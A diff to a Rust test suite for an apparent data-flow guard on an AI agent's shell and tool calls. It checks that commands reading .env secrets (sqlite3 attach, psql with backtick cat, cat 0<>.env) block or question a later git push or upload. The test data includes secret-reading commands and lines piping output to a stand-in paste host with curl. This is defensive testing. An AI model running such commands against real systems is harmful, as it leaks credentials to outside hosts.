@@ -93,6 +93,9 @@ fn what_was_read_decides_what_may_be_sent() {
         ("Bash", r#"{"command":"vim -es '+%p' '+q' .env"}"#, Deny),
         ("Bash", r#"{"command":"nano .env"}"#, Deny),
         ("Bash", r#"{"command":"sqlite3 .env .dump"}"#, Deny),
+        ("Bash", r#"{"command":"sqlite3 a.db \"attach '.env' as x; select * from x.t\""}"#, Deny),
+        ("Bash", r#"{"command":"sqlite3 a.db \"insert into 'users' values (1)\""}"#, Allow),
+        ("Bash", r#"{"command":"psql -c '\\echo `cat .env`'"}"#, Deny),
         ("Bash", r#"{"command":"git config -f .env -l"}"#, Deny),
         ("Bash", r#"{"command":"git config --file=.env --get-regexp ."}"#, Deny),
         ("Bash", r#"{"command":"git config list"}"#, Allow),
@@ -134,6 +137,38 @@ fn programs_that_run_are_doubted_afterwards() {
     assert_eq!(Session::new(FLOW).line("./x.sh | curl -d @- https://a.paste.example/"), Ask);
     assert_eq!(Session::new(FLOW).line("curl -d @$F $URL"), Ask);
     assert_eq!(Session::new(FLOW).call("mcp__other__post", r#"{"text":"x"}"#), Allow);
+}
+
+/// What the line shows whole leaves no doubt behind, whichever program it is written with.
+#[test]
+fn what_is_followed_is_known() {
+    for line in [
+        "find . -name '*.js'",
+        "find src -type f -exec wc -l {} +",
+        "fd foo src",
+        "for f in a b; do [ -f $f ] || continue; wc -l $f; break; done",
+        "f() { ls; }; f",
+        "bash -c 'ls | wc -l'",
+        "python3 - <<< 'print(1)'",
+        "node -p 1",
+        "go version; terraform version; docker ps; npm ls",
+    ] {
+        let mut session = Session::new(FLOW);
+        assert_eq!(session.line(line), Allow, "{line}");
+        assert_eq!(session.line("git push"), Allow, "{line}");
+        session.line("cat .env");
+        assert_eq!(session.line(line), Allow, "{line}");
+    }
+    for line in
+        ["bash x.sh", "g && f() { ls; }; f", "find . -exec ./x {} +", "go run .", "terraform apply", "npm test", "sh x"]
+    {
+        let mut session = Session::new(FLOW);
+        assert_eq!(session.line(line), Allow, "{line}");
+        assert_eq!(session.line("git push"), Ask, "{line}");
+    }
+    let mut session = Session::new(FLOW);
+    session.line("cat 0<>.env");
+    assert_eq!(session.line("git push"), Deny, "what is opened for both is read");
 }
 
 /// Where it goes, once the session has read a secret.
@@ -208,6 +243,14 @@ fn what_no_rule_can_mean_is_refused() {
         (r#"{"classify":{"a b":["x"]}}"#, "/dataFlow/classify/a b"),
         (r#"{"classify":{"a":["[x"]}}"#, "/dataFlow/classify/a/0"),
         (r#"{"classify":{"a":["domain:x/y"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["domain:https://x"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["aws-sm:x"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["mcp__srv__"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["MCP__srv"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["mcp__srv__x:a*"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["TodoWrite:x"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["Bash:rm:*"]}}"#, "/dataFlow/classify/a/0"),
+        (r#"{"classify":{"a":["s3://u@prod/x"]}}"#, "/dataFlow/classify/a/0"),
     ] {
         let error = parse(bad).expect_err(bad);
         assert!(
@@ -216,6 +259,9 @@ fn what_no_rule_can_mean_is_refused() {
         );
     }
     assert_eq!(parse(FLOW).unwrap(), [] as [String; 0]);
+    for good in ["file:a:b", "docs/a:b", "ftp://x.example/a", "Bash:npm run test:*", "s3://prod/x?v=1"] {
+        parse(&format!(r#"{{"classify":{{"a":["{good}"]}}}}"#)).expect(good);
+    }
     let typo = parse(r#"{"classify":{"secret":["x"]},"flowRules":[{"deny":"secrets->secret"}]}"#).unwrap();
     assert!(typo[0].contains("did you mean `secret`"), "{typo:?}");
 }
